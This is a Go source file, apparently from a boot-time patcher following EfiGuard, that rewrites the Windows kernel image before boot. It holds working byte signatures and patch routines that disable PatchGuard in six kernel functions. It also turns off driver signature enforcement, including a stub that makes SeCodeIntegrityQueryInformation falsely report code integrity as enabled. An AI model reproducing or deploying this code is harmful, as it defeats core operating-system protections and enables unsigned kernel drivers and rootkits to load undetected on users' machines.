// Package ntoskrnl holds the patch plans applied to the kernel image before it
// starts: the PatchGuard initialization paths and driver signature enforcement.
// Locations follow EfiGuard.
package ntoskrnl

import (
	"encoding/binary"

	"bootpatch"
)

const nop = 0x90

var (
	// mov eax, edx; cdq; idiv r8d
	keInitAmd64SpecificState = bootpatch.MustParsePattern("8B C2 99 41 F7 F8")
	// sti; lea rcx, [rbp+x]; call KiSwInterruptDispatch; cli
	kiSwInterruptDispatchCall = bootpatch.MustParsePattern("FB 48 8D ?? ?? E8 ?? ?? ?? ?? FA")
	// and qword ptr [rbp+x], 0; mov rax, 0FEFFFFFFFFFFFFFFh
	kiVerifyScopesExecuteMid = bootpatch.MustParsePattern("48 83 ?? ?? 00 48 B8 FF FF FF FF FF FF FF FE")
	// xor eax, eax; mov ebx, eax; mov edi, eax; mov ebp, eax; mov r10, rax
	kiMcaDeferredRecoveryService = bootpatch.MustParsePattern("33 C0 8B D8 8B F8 8B E8 4C 8B D0")
	// mov rax, offset SharedUserData.KdDebuggerEnabled
	ccInitializeBcbProfilerMid = bootpatch.MustParsePattern("48 B8 D4 02 00 00 80 F7 FF FF")
	// mov al, ds:SharedUserData.KdDebuggerEnabled
	expLicenseWatchInitWorkerMid = bootpatch.MustParsePattern("A0 D4 02 00 00 80 F7 FF FF")

	// lea r8, SeCiCallbacks; mov ecx, edi
	ciInitializeCall = bootpatch.MustParsePattern("4C 8D 05 ?? ?? ?? ?? 8B CF")
	// add rsp, 48h; ret; int3; mov eax, STATUS_INVALID_IMAGE_HASH
	seValidateImageDataRet = bootpatch.MustParsePattern("48 83 C4 48 C3 CC B8 28 04 00 C0")
	seCodeIntegrityQueryInformation = bootpatch.MustParsePattern("48 83 EC ?? 48 83 3D ?? ?? ?? ?? 00 4D 8B C8 4C 8B D1 74")
)

// CodeIntegrityQueryStub reports CODEINTEGRITY_OPTION_ENABLED with STATUS_SUCCESS:
//
//	mov dword ptr [r8], 8
//	xor eax, eax
//	mov dword ptr [rcx+4], 1
//	ret
var CodeIntegrityQueryStub = []byte{
	0x41, 0xC7, 0x00, 0x08, 0x00, 0x00, 0x00,
	0x33, 0xC0,
	0xC7, 0x41, 0x04, 0x01, 0x00, 0x00, 0x00,
	0xC3,
}

// McaCallers is the number of callers of KiMcaDeferredRecoveryService.
const McaCallers = 2

func DisablePatchGuard() *bootpatch.Plan {
	return &bootpatch.Plan{Name: "patchguard", Steps: []bootpatch.Step{
		{
			Name:     "KeInitAmd64SpecificState",
			Required: true,
			Locate:   sectionPattern("INIT", keInitAmd64SpecificState),
			// keep the mov after idiv from overwriting the return address
			Apply: func(img *bootpatch.Image, addr uint64) { img.Fill(addr+6, 4, nop) },
		},
		{
			Name:     "KiSwInterrupt",
			Required: true,
			Locate:   sectionPattern(".text", kiSwInterruptDispatchCall),
			Apply:    func(img *bootpatch.Image, addr uint64) { img.Fill(addr, len(kiSwInterruptDispatchCall), nop) },
		},
		{
			Name:     "KiVerifyScopesExecute",
			Required: true,
			Locate:   functionStart("INIT", kiVerifyScopesExecuteMid),
			Apply:    bootpatch.PatchReturn0,
		},
		{
			Name:     "KiMcaDeferredRecoveryService",
			Required: true,
			Expect:   McaCallers,
			Locate:   callersOf(".text", kiMcaDeferredRecoveryService),
			Apply:    bootpatch.PatchReturn0,
		},
		{
			Name:     "CcInitializeBcbProfiler",
			Required: true,
			Locate:   functionStart("INIT", ccInitializeBcbProfilerMid),
			Apply:    bootpatch.PatchReturnTrue,
		},
		{
			Name:     "ExpLicenseWatchInitWorker",
			Required: true,
			Locate:   functionStart("INIT", expLicenseWatchInitWorkerMid),
			Apply:    bootpatch.PatchReturn0,
		},
	}}
}

func DisableDSE() *bootpatch.Plan {
	return &bootpatch.Plan{Name: "dse", Steps: []bootpatch.Step{
		{
			Name:     "CiInitialize",
			Required: true,
			Locate:   sectionPattern("PAGE", ciInitializeCall),
			// mov ecx, edi -> xor ecx, ecx: CodeIntegrityOptions = 0
			Apply: func(img *bootpatch.Image, addr uint64) { img.Write16(addr+7, 0xC931) },
		},
		{
			Name:     "SeValidateImageData",
			Required: true,
			Locate:   sectionPattern("PAGE", seValidateImageDataRet),
			// mov eax, 0
			Apply: func(img *bootpatch.Image, addr uint64) { img.Write32(addr+7, 0) },
		},
		{
			Name:     "SeCodeIntegrityQueryInformation",
			Required: true,
			Locate:   sectionPattern("PAGE", seCodeIntegrityQueryInformation),
			Apply:    func(img *bootpatch.Image, addr uint64) { img.Copy(addr, CodeIntegrityQueryStub) },
		},
	}}
}

// Plan disables PatchGuard, then driver signature enforcement.
func Plan() *bootpatch.Plan {
	return bootpatch.Concat("ntoskrnl", DisablePatchGuard(), DisableDSE())
}

// Patch runs Plan against the kernel image. It halts through env if any
// location is missing.
func Patch(env *bootpatch.Env, img *bootpatch.Image) *bootpatch.Report {
	return Plan().Run(env, img)
}

func sectionPattern(section string, p bootpatch.Pattern) func(*bootpatch.Image) []uint64 {
	return func(img *bootpatch.Image) []uint64 {
		sec, ok := img.FindSection(section)
		if !ok {
			return nil
		}
		addr, ok := img.FindPattern(sec, p)
		if !ok {
			return nil
		}
		return []uint64{addr}
	}
}

func functionStart(section string, p bootpatch.Pattern) func(*bootpatch.Image) []uint64 {
	mid := sectionPattern(section, p)
	return func(img *bootpatch.Image) []uint64 {
		sites := mid(img)
		if len(sites) == 0 {
			return nil
		}
		start, ok := img.FindFunctionStart(sites[0])
		if !ok {
			return nil
		}
		return []uint64{start}
	}
}

// callersOf finds the function matching p, then the start of every function
// in section that calls it with a rel32 call. A caller whose start cannot be
// resolved is dropped, so the step's expected count catches it.
func callersOf(section string, p bootpatch.Pattern) func(*bootpatch.Image) []uint64 {
	return func(img *bootpatch.Image) []uint64 {
		sec, ok := img.FindSection(section)
		if !ok {
			return nil
		}
		callee, ok := img.FindPattern(sec, p)
		if !ok {
			return nil
		}

		var (
			buf   = img.SectionBytes(sec)
			start = img.RVA(sec.VirtualAddress)
			out   []uint64
		)
		for i := 0; i+5 < len(buf); i++ {
			if buf[i] != 0xE8 {
				continue
			}
			rel := int32(binary.LittleEndian.Uint32(buf[i+1:]))
			if start+uint64(i)+5+uint64(int64(rel)) != callee {
				continue
			}
			if fn, ok := img.FindFunctionStart(start + uint64(i)); ok {
				out = append(out, fn)
			}
			i += 4
		}
		return out
	}
}
